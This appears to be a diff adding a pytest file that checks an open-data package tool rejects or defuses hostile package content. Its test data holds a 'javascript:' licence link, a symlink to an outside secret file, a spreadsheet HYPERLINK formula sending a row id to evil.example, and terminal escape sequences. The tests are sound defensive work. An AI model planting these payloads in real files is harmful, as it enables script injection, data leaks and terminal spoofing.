@@ -1,0 +1,148 @@
+"""A package from someone else: what it holds is shown and copied, never run or followed
+out of it (a licence link of «javascript:», a symlink to a file outside the package)."""
+
+from __future__ import annotations
+
+import json
+from pathlib import Path
+
+from openpyxl import load_workbook
+
+from opendata.build import build
+from opendata.validate import ValidationReport, ValidPackage
+from tests.helpers import run_cli
+
+SCRIPT = "javascript:alert(document.domain)"
+SOURCE = "sources/kolomyia-2021-communication-plan.txt"
+
+
+def set_licence_path(package: Path, path: str) -> None:
+    descriptor_path = package / "datapackage.json"
+    descriptor = json.loads(descriptor_path.read_text(encoding="utf-8"))
+    descriptor["licenses"][0]["path"] = path
+    descriptor_path.write_text(json.dumps(descriptor, ensure_ascii=False), encoding="utf-8")
+
+
+def test_a_licence_path_that_is_no_web_address_is_an_error(plan_copy, tmp_path):
+    """The plan page made it a link: a click ran the script on the page's site."""
+    set_licence_path(plan_copy, SCRIPT)
+    checked = run_cli("validate", plan_copy, "--lang", "en")
+    assert checked.returncode == 1, checked.stdout
+    assert (
+        f"✗ The path of licence «Creative Commons Attribution 4.0» in «licenses» is «{SCRIPT}», "
+        "not an http(s) address" in checked.stdout
+    )
+    assert "Fix: Give the full address of the licence's text in its «path», starting with https://" in (
+        checked.stdout
+    )
+    in_ukrainian = run_cli("validate", plan_copy)
+    assert f"Шлях ліцензії «Creative Commons Attribution 4.0» у «licenses» — «{SCRIPT}»" in (
+        in_ukrainian.stdout
+    )
+    built = run_cli("build", plan_copy, "--out", tmp_path / "dist")
+    assert built.returncode == 1 and not (tmp_path / "dist" / "index.html").exists()
+
+
+def test_the_plan_page_links_only_a_web_address_of_the_licence(plan_copy, tmp_path):
+    """Even built without validating (a ValidPackage made by hand), the page shows such a
+    licence's title as text, not as a link."""
+    set_licence_path(plan_copy, SCRIPT)
+    unchecked = ValidPackage(plan_copy, ValidationReport(target=str(plan_copy)))
+    build(unchecked, tmp_path / "dist")
+    page = (tmp_path / "dist" / "index.html").read_text(encoding="utf-8")
+    assert 'href="javascript:' not in page
+    assert ' Creative Commons Attribution 4.0.</p>' in page
+
+
+def test_the_plan_page_links_a_licence_at_a_web_address(plan_copy, tmp_path):
+    run_cli("build", plan_copy, "--out", tmp_path / "dist")
+    page = (tmp_path / "dist" / "index.html").read_text(encoding="utf-8")
+    link = '<a href="https://creativecommons.org/licenses/by/4.0/">Creative Commons Attribution 4.0</a>'
+    assert link in page
+
+
+def test_a_source_linked_to_a_file_outside_the_package_is_refused(plan_copy, tmp_path):
+    """`build` copied the file the link led to (a secret) into the build as the decision."""
+    secret = tmp_path / "secret.txt"
+    secret.write_text("password=hunter2\n", encoding="utf-8")
+    (plan_copy / SOURCE).unlink()
+    (plan_copy / SOURCE).symlink_to(secret)
+    checked = run_cli("validate", plan_copy, "--lang", "en")
+    assert checked.returncode == 1
+    assert f"✗ File «{SOURCE}» is a link (symlink) to «{secret.resolve()}», outside the package folder" in (
+        checked.stdout
+    )
+    assert f"Fix: Put the file itself (a copy, not a link) in place of the link «{SOURCE}»" in checked.stdout
+    built = run_cli("build", plan_copy, "--out", tmp_path / "dist")
+    assert built.returncode == 1
+    copied = [p for p in tmp_path.joinpath("dist").rglob("*") if p.is_file()]
+    assert not any(b"hunter2" in p.read_bytes() for p in copied)
+
+
+def test_a_table_linked_to_a_file_outside_the_package_is_refused(plan_copy, tmp_path):
+    outside = tmp_path / "people.csv"
+    outside.write_bytes((plan_copy / "people.csv").read_bytes())
+    (plan_copy / "people.csv").unlink()
+    (plan_copy / "people.csv").symlink_to(outside)
+    checked = run_cli("validate", plan_copy, "--lang", "en", "--format", "json")
+    report = json.loads(checked.stdout)
+    linked = [e for e in report["errors"] if e["type"] == "path-links-out"]
+    assert checked.returncode == 1 and len(linked) == 1
+    assert linked[0]["resource"] == "people" and linked[0]["path"] == "people.csv"
+    assert str(outside.resolve()) in linked[0]["message"]
+
+
+def test_a_link_that_stays_inside_the_package_is_fine(plan_copy):
+    (plan_copy / "copies").mkdir()
+    (plan_copy / "copies" / "people.csv").write_bytes((plan_copy / "people.csv").read_bytes())
+    (plan_copy / "people.csv").unlink()
+    (plan_copy / "people.csv").symlink_to(plan_copy / "copies" / "people.csv")
+    checked = run_cli("validate", plan_copy, "--lang", "en")
+    assert checked.returncode == 0, checked.stdout
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?"&A2,"click")'
+
+
+def add_column_named(package: Path, table: str, name: str) -> None:
+    schema_path = package / "schemas" / f"{table}.json"
+    schema = json.loads(schema_path.read_text(encoding="utf-8"))
+    schema["fields"].append({"name": name, "type": "string"})
+    schema_path.write_text(json.dumps(schema, ensure_ascii=False, indent=2), encoding="utf-8")
+    lines = (package / f"{table}.csv").read_text(encoding="utf-8").splitlines()
+    quoted = '"' + name.replace('"', '""') + '"'
+    rows = [f"{lines[0]},{quoted}", *(f"{line}," for line in lines[1:])]
+    (package / f"{table}.csv").write_text("\n".join(rows) + "\n", encoding="utf-8")
+
+
+def test_a_field_named_like_a_formula_is_a_warning_and_text_in_the_workbook(plan_copy, tmp_path):
+    """The workbook's header cell was a live formula: a link that sent the row's id away."""
+    add_column_named(plan_copy, "people", FORMULA)
+    checked = run_cli("validate", plan_copy, "--lang", "en")
+    assert checked.returncode == 0, checked.stdout
+    assert (
+        f"! row 1, field «{FORMULA}»: The name of field «{FORMULA}» starts with «=»: Excel opening the CSV "
+        "runs the header as a formula" in checked.stdout
+    )
+    assert "Fix: Give the field a name that starts with a letter" in checked.stdout
+    built = run_cli("build", plan_copy, "--out", tmp_path / "dist")
+    assert built.returncode == 0, built.stderr
+    header = load_workbook(tmp_path / "dist" / "kolomyia-communication-plan-2021.xlsx")["people"][1]
+    assert header[-1].value == FORMULA and header[-1].data_type == "s"
+
+
+def test_control_characters_of_a_cell_are_shown_not_run_by_the_terminal(tmp_path):
+    """validate printed a cell's escape sequences raw: the terminal turned red and took the
+    cell's title for its window's."""
+    cell = "\x1b[31mRED\x1b]0;pwned\x07\x7f\x9b\tend"
+    table = tmp_path / "esc.csv"
+    table.write_text(f'a,b\n1,2\n"{cell}",3\n', encoding="utf-8")
+    schema = tmp_path / "esc.schema.json"
+    schema.write_text(json.dumps({"fields": [{"name": name, "type": "integer"} for name in "ab"]}))
+    shown = run_cli("validate", table, "--schema", schema, "--lang", "en")
+    assert shown.returncode == 1
+    assert "Value «␛[31mRED␛]0;pwned␇␡<U+009B>" in shown.stdout  # then the tab, as spaces
+    assert "end» is not an integer." in shown.stdout
+    assert not any(character in shown.stdout for character in "\x1b\x07\x7f\x9b")
+    as_json = run_cli("validate", table, "--schema", schema, "--format", "json")
+    assert json.loads(as_json.stdout)["errors"][0]["cell"] == cell  # the real value: JSON escapes it
